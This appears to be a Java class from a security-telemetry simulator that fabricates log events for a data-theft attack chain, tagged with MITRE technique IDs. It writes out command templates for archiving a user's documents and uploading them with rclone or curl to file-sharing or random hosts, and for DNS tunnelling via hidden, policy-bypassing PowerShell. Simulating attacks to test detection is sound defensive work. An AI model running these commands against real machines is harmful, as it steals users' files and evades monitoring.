package dev.vigil.simulate;

/**
 * Data theft from a user's workstation: documents staged into an archive, then either one large upload to an
 * internet host (rclone or curl) or DNS tunnelling with long random subdomains under an attacker domain.
 */
final class Exfiltration implements AttackChain {

    @Override
    public SimulationSummary.Attack plant(Context ctx, Rng rng, String attackId, long at) {
        Account a = AttackChain.victim(ctx, rng);
        if (a == null) {
            return null;
        }
        Host h = a.home();
        Steps steps = new Steps(attackId, AttackKind.EXFILTRATION);
        String user = ctx.user(a);
        String archive = rng.pick("C:\\Users\\Public\\", "C:\\ProgramData\\", "C:\\Users\\" + a.name() + "\\AppData\\Local\\Temp\\")
                + rng.alpha(rng.between(2, 7)) + rng.pick(".7z", ".zip");
        String docs = "C:\\Users\\" + a.name() + "\\" + rng.pick("Documents", "Desktop", "OneDrive - " + ctx.world().domain());
        Timeline.Step stage = steps.next("T1560.001", "collection");
        boolean sevenZip = archive.endsWith(".7z");
        Proc staging = sevenZip
                ? Proc.start(rng, h, "C:\\Program Files\\7-Zip\\7z.exe", "\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z "
                + rng.pick("-p" + rng.base62(10) + " -mhe=on ", "-mx=9 ", "") + archive + " \"" + docs + "\\*\"", user, "Medium", docs)
                : Proc.start(rng, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -c \"Compress-Archive -Path '" + docs + "' -DestinationPath " + archive + "\"", user, "Medium", docs);
        ctx.win().processCreate(ctx.tl(), at, stage, staging, ctx.explorer(a));
        ctx.win().fileCreate(ctx.tl(), at + rng.between(5_000_000, 90_000_000), stage, staging, archive);
        long t = at + rng.between(100_000_000, 600_000_000);
        if (rng.chance(0.5)) {
            Timeline.Step up = steps.next("T1567.002", "exfiltration");
            String host = rng.pick("mega.nz", "transfer.sh", rng.alpha(rng.between(6, 10)) + rng.pick(".com", ".net", ".xyz"));
            boolean rclone = rng.chance(0.5);
            String image = rclone ? "C:\\Users\\Public\\" + rng.pick("rclone.exe", "svchost.exe", rng.alpha(5) + ".exe")
                    : "C:\\Windows\\System32\\curl.exe";
            String cmd = rclone ? "\"" + image + "\" copy " + archive + " " + rng.pick("mega:", "remote:", "s3:") + rng.alpha(6)
                    + rng.pick(" -q --ignore-existing --transfers 8", " --no-check-certificate -P", " -q")
                    : "curl.exe -k -s -T " + archive + " https://" + host + "/" + rng.alpha(6);
            Proc p = Proc.start(rng, h, image, cmd, user, "Medium", docs);
            ctx.win().processCreate(ctx.tl(), t, up, p, ctx.explorer(a));
            String ip = ctx.world().resolve(host);
            ctx.win().dnsQuery(ctx.tl(), t + 80_000, up, p, host, ip);
            ctx.net().dns(ctx.tl(), rng, t + 60_000, up, h.ip(), host, ip);
            int sport = rng.ephemeralPort();
            long bytes = rng.between(150_000_000L, 2_500_000_000L);
            double seconds = bytes / (rng.between(2, 40) * 1_000_000.0 / 8 * 8);
            ctx.win().network(ctx.tl(), t + 150_000, up, p, sport, ip, 443);
            ctx.net().tcp(ctx.tl(), rng, t + 120_000, up, h.ip(), sport, ip, 443, "ssl", host, bytes,
                    rng.between(40_000, 900_000), seconds);
        } else {
            Timeline.Step tunnel = steps.next("T1048.003", "exfiltration");
            String domain = rng.alpha(rng.between(5, 10)) + rng.pick(".com", ".net", ".info", ".online");
            String sub = rng.alpha(rng.between(2, 4));
            Proc p = Proc.start(rng, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -ep bypass -f C:\\Users\\Public\\" + rng.alpha(5) + ".ps1", user, "Medium", docs);
            ctx.win().processCreate(ctx.tl(), t, tunnel, p, ctx.explorer(a));
            int queries = rng.between(150, 700);
            String answer = ctx.world().resolve(domain);
            for (int i = 0; i < queries; i++) {
                t += rng.between(150_000, 3_000_000);
                String q = rng.base32(rng.between(40, 63)) + "." + (rng.chance(0.5) ? rng.base32(rng.between(10, 40)) + "." : "")
                        + sub + "." + domain;
                String res = rng.chance(0.8) ? answer : null;
                ctx.win().dnsQuery(ctx.tl(), t, tunnel, p, q, res);
                ctx.net().dns(ctx.tl(), rng, t - rng.between(100, 900), tunnel, h.ip(), q, res);
            }
        }
        return new SimulationSummary.Attack(attackId, AttackKind.EXFILTRATION, AttackChain.instant(at), h.name(), a.name());
    }
}
